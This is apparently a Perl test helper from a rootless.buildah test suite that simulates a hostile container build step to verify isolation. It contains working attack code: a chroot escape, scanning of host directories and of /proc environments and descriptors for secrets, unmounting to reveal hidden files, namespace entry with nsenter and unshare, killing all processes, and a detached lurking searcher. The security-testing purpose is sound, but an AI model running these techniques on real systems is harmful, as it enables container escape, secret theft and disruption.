# Copyright (c) 2026, the rootless.buildah authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
#
# What a hostile RUN step would do. No modules: the image holds perl's program and its libraries, nothing else of perl.
#
#   hostile.pl NEEDLES COMMAND...   NEEDLES: a file of texts, one a line, that secrets of the test contain
#     search DIR...                 leave the root, then look for the needles below the host's directories
#     processes                     look for them in everything that /proc shows of each process
#     undo DIR...                   try to uncover what is mounted below the directories, in several ways
#     unlock                        release every lock that an inherited descriptor holds
#     killall                       kill every process that may be killed
#     lurk SECONDS OUT DIR...       stay behind, search again and again and write what is found to OUT (call it with setsid)
#     join                          enter the network of every process that can be seen
#   Each finding is a line: HOW, PLACE and the word with the needle, between tabs.

$| = 1;
open(my $file, '<', shift @ARGV) or die "needles: $!";
my $needles = join('|', map { chomp; quotemeta } grep { /\S/ } <$file>);
close $file;
my ($command, @rest) = @ARGV;
my $out = \*STDOUT;

sub leave {
    # chroot(2) moves the root but not the working directory, so ".." leads out.
    mkdir '/.out';
    chroot('/.out') or die "chroot: $!";
    chdir '..' for 1 .. 100;
    chroot('.') or die "second chroot: $!";
    chdir '/';
    print $out "ESCAPED\t/\t\n";
}

sub report {
    my ($how, $place, $data) = @_;
    my %seen;
    return unless $data =~ /$needles/;
    while ($data =~ m{([\w+/=%.:@-]{0,200}(?:$needles)[\w+/=%.:@-]{0,200})}g) {
        print $out "FOUND $how\t$place\t$1\n" unless $seen{$1}++;
    }
}

sub content {
    my ($how, $place) = @_;
    sysopen(my $handle, $place, 04000) or return 0;    # O_NONBLOCK: a FIFO shall not stop the walk
    my $data = '';
    while (length $data < 1_000_000) { sysread($handle, $data, 1 << 16, length $data) or last }
    report($how, $place, $data);
    return 1;
}

sub search {
    my @todo = @_;
    my %sticky;
    while (defined(my $place = shift @todo)) {
        # The last two: the step's own root as the host sees it, with /proc and /sys in it once more.
        next if $place =~ m{^/+(proc|sys|dev/pts)(/|$)} or $place =~ m{/\.out$|/overlay/[^/]+/merged$|/rootfs$};
        my ($mode, $owner) = (lstat $place)[2, 4] or next;
        # What strangers keep in /tmp may be large; an owner whom this namespace does not map shows as 65534.
        next if -l _ or ($sticky{$place =~ s{/[^/]*$}{}r} and $owner == 65534 and $place !~ /ansible/);
        if (-f _) { content('search', $place) }
        elsif (-d _ and opendir(my $handle, $place)) {
            $sticky{$place} = $mode & 01000;
            push @todo, map { "$place/$_" } grep { $_ ne '.' and $_ ne '..' } readdir $handle;
        }
    }
}

sub pids { opendir(my $handle, '/proc') or die "/proc: $!"; return grep { /^\d+$/ } readdir $handle }

sub processes {
    for my $pid (pids()) {
        my $argv = '';
        if (open(my $handle, '<', "/proc/$pid/cmdline")) { local $/; $argv = <$handle> // ''; $argv =~ tr/\0/ / }
        print $out "PROCESS\t$pid\t", substr($argv, 0, 100) =~ s/[\t\n]/ /gr, "\n";
        content('process', "/proc/$pid/$_") for qw(cmdline environ);
        if (opendir(my $handle, "/proc/$pid/fd")) { content('descriptor', "/proc/$pid/fd/$_") for grep { /^\d+$/ } readdir $handle }
        for my $way (qw(root cwd)) { search(map { "/proc/$pid/$way$_" } @rest) if -d "/proc/$pid/$way/" }
    }
}

sub output {
    my ($how, @argv) = @_;
    my $child = open(my $pipe, '-|') // die "fork: $!";
    if (!$child) { open(STDERR, '>&', \*STDOUT); exec { $argv[0] } @argv; exit 127 }
    my $text = do { local $/; <$pipe> } // '';
    close $pipe;
    my $rc = $? >> 8;
    print $out "TRIED $how\t@argv[0, 1]\t$rc ", substr($text, 0, 200) =~ s/[^!-~]+/ /gr, "\n";
    report($how, $argv[-1], $text);
    return $rc;
}

sub undo {
    open(my $handle, '<', '/proc/self/mountinfo') or die "mountinfo: $!";
    # What covers something else: new file systems and files that stand for nothing, not what is shown in spite of them.
    my @mounts = map { (split)[4] } grep { / - (tmpfs|devtmpfs) / } <$handle>;
    my $inside = join('|', map { quotemeta } @_);
    for my $mount (grep { m{^(?:$inside)(/|$)} } reverse @mounts) {
        print $out "MOUNT\t$mount\t\n";
        my $show = "find '$mount' -maxdepth 3 -type f -size -100k -exec cat {} + 2>/dev/null";
        my $gone = output('umount', '/bin/umount', $mount) == 0 or output('lazy umount', '/bin/umount', '-l', $mount) == 0;
        output('after umount', '/bin/sh', '-c', $show) if $gone;
        output('namespace', '/usr/bin/unshare', '-Urm', '/bin/sh', '-c', "umount -l '$mount'; umount -l '$mount'; $show");
    }
    output('bind', '/bin/mount', '--bind', $_, '/mnt') == 0 and search('/mnt') for @_;
    output('join', '/usr/bin/nsenter', '-t', $_, '-m', '-U', '/bin/sh', '-c', "cat @{[join ' ', map { \"$_/* $_/.*\" } @rest]}") for pids();
}

if ($command eq 'search') { leave(); search(@rest) }
elsif ($command eq 'processes') { processes() }
elsif ($command eq 'undo') { leave(); undo(@rest) }
elsif ($command eq 'unlock') {
    for my $number (3 .. 255) {
        open(my $handle, '<&=', $number) or next;
        print $out "DESCRIPTOR\t$number\t", readlink("/proc/self/fd/$number"), "\n";
        flock($handle, 8);
    }
}
elsif ($command eq 'killall') { kill 'KILL', -1; kill 'KILL', grep { $_ != $$ } pids() }
elsif ($command eq 'lurk') {
    my ($seconds, $log, @where) = @rest;
    leave();
    exit 0 if fork;
    open(STDIN, '<', '/dev/null'); open(STDOUT, '>', '/dev/null'); open(STDERR, '>', '/dev/null');
    for (1 .. $seconds * 10) {
        open($out, '>>', $log); select((select($out), $| = 1)[0]);
        print $out "ALIVE\t$$\t\n";
        search(@where);
        close $out;
        select(undef, undef, undef, 0.1);
    }
}
elsif ($command eq 'join') {
    output('join', '/usr/bin/nsenter', "--net=/proc/$_/ns/net", '/bin/true') for pids();
}
else { die "what is $command?" }
